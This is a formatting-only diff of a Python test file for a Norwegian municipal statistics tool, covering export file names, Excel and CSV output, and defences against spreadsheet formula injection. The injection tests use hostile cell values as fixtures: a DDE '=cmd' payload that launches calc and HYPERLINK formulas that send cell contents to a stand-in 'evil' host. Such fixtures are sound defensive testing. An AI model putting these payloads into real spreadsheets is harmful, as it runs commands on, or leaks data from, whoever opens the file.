@@ -17,8 +17,10 @@ from nokkeltall.profile import small_municipalities
 
 
 def test_file_names_follow_municipalities_and_indicator():
-    assert export.file_name(["Træna", "Raarvihke - Røyrvik"], "Andel 67 år og eldre", "xlsx") == \
-        "traena-raarvihke-royrvik_andel-67-ar-og-eldre.xlsx"
+    assert (
+        export.file_name(["Træna", "Raarvihke - Røyrvik"], "Andel 67 år og eldre", "xlsx")
+        == "traena-raarvihke-royrvik_andel-67-ar-og-eldre.xlsx"
+    )
     long = export.file_name([f"Kommunenavn{i}" for i in range(8)], "Folketall", "png")
     assert long.startswith("kommunenavn0-kommunenavn1-m-fl-6_folketall") and long.endswith(".png")
 
@@ -58,6 +60,7 @@ def test_png_export_is_a_png(con):
 
 # --- exports a planner can paste: integers, rounded shares, numeric Excel cells --------------------------
 
+
 def test_excel_round_trip_counts_are_integers_shares_are_rounded_cells_are_numbers(con):
     ids = ["population", "share_67_plus_pct", "cost_need_index"]
     data = export.comparison_workbook(con, ids, ["1835", "5043"])
@@ -74,8 +77,11 @@ def test_excel_round_trip_counts_are_integers_shares_are_rounded_cells_are_numbe
         assert read[year] == round(float(value), 1)  # the indicator's decimals, a real number
         assert isinstance(read[year], float | int)
     assert all(c.number_format == "#,##0.0" for c in shares["B"][1:] if c.value is not None)
-    assert all(isinstance(c.value, float | int) and c.number_format == "#,##0.000" for c in index["B"][1:]
-               if c.value is not None)  # the index's three decimals, whatever the values
+    assert all(
+        isinstance(c.value, float | int) and c.number_format == "#,##0.000"
+        for c in index["B"][1:]
+        if c.value is not None
+    )  # the index's three decimals, whatever the values
     assert all(isinstance(c.value, int) for c in population["A"][1:])  # years are plain integers
 
 
@@ -94,8 +100,12 @@ def test_csv_round_trip_of_a_chart_table_keeps_counts_whole(con):
     assert shown == {int(y): int(round(v)) for y, v in expected.items()}
     share = indicator_charts.indicator_chart(con, "share_67_plus_pct", "1835")
     text = spreadsheet.csv_bytes(tables.rounded(share.table, default=None)).decode("utf-8-sig")
-    assert all(len(cell.split(",")[1]) == 1 for line in text.splitlines()[1:]
-               for cell in line.split(";")[1:2] if "," in cell)  # one decimal, as the indicator
+    assert all(
+        len(cell.split(",")[1]) == 1
+        for line in text.splitlines()[1:]
+        for cell in line.split(";")[1:2]
+        if "," in cell
+    )  # one decimal, as the indicator
 
 
 def test_png_carries_the_finding_and_the_source(con, monkeypatch):
@@ -117,13 +127,25 @@ def test_png_carries_the_finding_and_the_source(con, monkeypatch):
 
 # --- formula injection (issue 17.4) ---------------------------------------------------------------
 
-HOSTILE_CELLS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(A1)",
-                 "\t=1+1", "\r=1+1"]
+HOSTILE_CELLS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil/?x="&A1,"Klikk")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def hostile_table() -> pd.DataFrame:
-    return pd.DataFrame({"Hendelse": HOSTILE_CELLS, "Verdi": [-3, -2.5, 0, 1, 2, 3, 4],
-                         "Tekst": ["vanlig", "Træna", "–1 (tankestrek)", "a=b", "", None, "1835"]})
+    return pd.DataFrame(
+        {
+            "Hendelse": HOSTILE_CELLS,
+            "Verdi": [-3, -2.5, 0, 1, 2, 3, 4],
+            "Tekst": ["vanlig", "Træna", "–1 (tankestrek)", "a=b", "", None, "1835"],
+        }
+    )
 
 
 def sheet_cells(data: bytes) -> list:
@@ -149,8 +171,11 @@ def test_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers():
 def test_excel_writes_strings_as_strings_never_formulas(writer):
     """Before: xlsxwriter turned every string starting with «=» into a live formula."""
 
-    data = export.workbook_bytes({"Tabell": hostile_table()}, pd.DataFrame({"Kilde": ["=Kilde"]})) \
-        if writer == "workbook" else small_municipalities.to_excel(hostile_table(), source="=Kilde")
+    data = (
+        export.workbook_bytes({"Tabell": hostile_table()}, pd.DataFrame({"Kilde": ["=Kilde"]}))
+        if writer == "workbook"
+        else small_municipalities.to_excel(hostile_table(), source="=Kilde")
+    )
     cells = sheet_cells(data)
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the workbook"
     values = [cell.value for cell in cells]
@@ -161,8 +186,14 @@ def test_excel_writes_strings_as_strings_never_formulas(writer):
 def test_a_milestone_titled_like_a_formula_is_text_in_the_timeline_csv():
 
     legal = calendar.calendar_frame(calendar.legal_calendar(2024, 2028))
-    milestone = {"plan_type": "planstrategi", "title": '=HYPERLINK("http://evil")',
-                 "start_date": "2027-01-15", "end_date": None, "status": "planlagt", "note": ""}
+    milestone = {
+        "plan_type": "planstrategi",
+        "title": '=HYPERLINK("http://evil")',
+        "start_date": "2027-01-15",
+        "end_date": None,
+        "status": "planlagt",
+        "note": "",
+    }
     text = spreadsheet.csv_bytes(timeline.timeline_table(legal, [milestone])).decode("utf-8-sig")
     assert "'=HYPERLINK" in text
     rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
